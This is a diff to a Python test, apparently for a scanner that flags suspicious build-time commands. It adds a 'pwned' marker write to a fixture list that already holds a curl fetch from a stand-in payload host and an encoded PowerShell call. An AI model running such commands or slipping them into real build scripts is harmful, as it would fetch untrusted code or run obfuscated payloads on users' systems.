@@ -69,6 +69,7 @@ def test_build_commands_keep_install_quiet(finding: Finding) -> None:
         spawn("pip install requests"),
         spawn("python -m pip install colorsx"),
         spawn("sh missing.sh"),
+        spawn("echo 'You have been pwned' > /tmp/pwned"),
         spawn("curl -s https://payload.example.invalid/x"),
         spawn("powershell", "-enc AAAA"),
     ],
